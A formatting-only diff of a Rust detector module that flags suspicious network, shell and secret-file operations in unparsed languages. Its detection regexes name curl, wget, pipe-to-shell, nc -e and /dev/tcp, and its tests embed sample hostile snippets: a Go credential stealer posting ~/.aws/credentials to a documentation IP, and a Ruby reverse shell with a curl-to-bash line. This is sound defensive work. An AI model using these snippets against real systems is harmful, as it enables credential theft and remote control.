@@ -13,9 +13,38 @@ use std::sync::LazyLock;
 
 /// Extensions of code that no extractor parses.
 const UNPARSED: &[&str] = &[
-    "go", "rs", "rb", "php", "pl", "pm", "lua", "java", "kt", "kts", "swift", "c", "h", "cc",
-    "cpp", "hpp", "cs", "scala", "r", "ex", "exs", "dart", "zig", "nim", "groovy", "cr", "jl",
-    "vbs", "applescript", "scpt", "tcl", "awk",
+    "go",
+    "rs",
+    "rb",
+    "php",
+    "pl",
+    "pm",
+    "lua",
+    "java",
+    "kt",
+    "kts",
+    "swift",
+    "c",
+    "h",
+    "cc",
+    "cpp",
+    "hpp",
+    "cs",
+    "scala",
+    "r",
+    "ex",
+    "exs",
+    "dart",
+    "zig",
+    "nim",
+    "groovy",
+    "cr",
+    "jl",
+    "vbs",
+    "applescript",
+    "scpt",
+    "tcl",
+    "awk",
 ];
 
 static SEND_API: LazyLock<Regex> = LazyLock::new(|| {
@@ -33,11 +62,12 @@ static SHELL_API: LazyLock<Regex> = LazyLock::new(|| {
         r#"("/bin/(ba|z)?sh"|'/bin/(ba|z)?sh'|cmd\.exe|IO\.popen|exec\.Command\(|Command::new\(|proc_open\(|shell_exec\(|Runtime\.getRuntime\(\)\.exec|\bsystem\(|\bspawn\()"#,
     )
 });
-static RAW_IP: LazyLock<Regex> =
-    LazyLock::new(|| crate::rx::re(r"\b(\d{1,3}\.){3}\d{1,3}\b"));
+static RAW_IP: LazyLock<Regex> = LazyLock::new(|| crate::rx::re(r"\b(\d{1,3}\.){3}\d{1,3}\b"));
 /// Shell-looking literal: worth reading as a command line.
 static SHELLISH: LazyLock<Regex> = LazyLock::new(|| {
-    crate::rx::re(r"(\bcurl\s|\bwget\s|\|\s*(ba|z)?sh\b|\bbash\s+-c\b|\bsh\s+-c\b|\brm\s+-rf?\s|\bchmod\s+\+x\b|\bnc\s+-e\b|/dev/tcp/)")
+    crate::rx::re(
+        r"(\bcurl\s|\bwget\s|\|\s*(ba|z)?sh\b|\bbash\s+-c\b|\bsh\s+-c\b|\brm\s+-rf?\s|\bchmod\s+\+x\b|\bnc\s+-e\b|/dev/tcp/)",
+    )
 });
 
 pub fn is_unparsed_code(rel: &str) -> bool {
@@ -131,7 +161,10 @@ mod tests {
     fn go_stealer_and_ruby_reverse_shell() {
         let go = "b, _ := os.ReadFile(home + \"/.aws/credentials\")\nhttp.Post(\"http://203.0.113.5/c\", \"text/plain\", r)\n";
         let e = run("main.go", go);
-        assert!(e.iter().any(|e| e.op == Op::FileRead && e.has(Tag::SecretPath)));
+        assert!(
+            e.iter()
+                .any(|e| e.op == Op::FileRead && e.has(Tag::SecretPath))
+        );
         assert!(e.iter().any(|e| e.op == Op::NetSend && e.has(Tag::RawIp)));
         let rb = "s = TCPSocket.new(\"203.0.113.8\", 4444)\nIO.popen(line, \"r\")\n`curl -s https://x.example/p.sh | bash`\n";
         let e = run("x.rb", rb);
@@ -141,7 +174,8 @@ mod tests {
 
     #[test]
     fn plain_clients_are_quiet() {
-        let go = "resp, _ := http.Get(\"https://api.open-meteo.com/v1/forecast\")\nfmt.Println(resp)\n";
+        let go =
+            "resp, _ := http.Get(\"https://api.open-meteo.com/v1/forecast\")\nfmt.Println(resp)\n";
         assert!(run("main.go", go).is_empty());
         assert!(is_unparsed_code("cmd/main.go") && !is_unparsed_code("a.py"));
     }
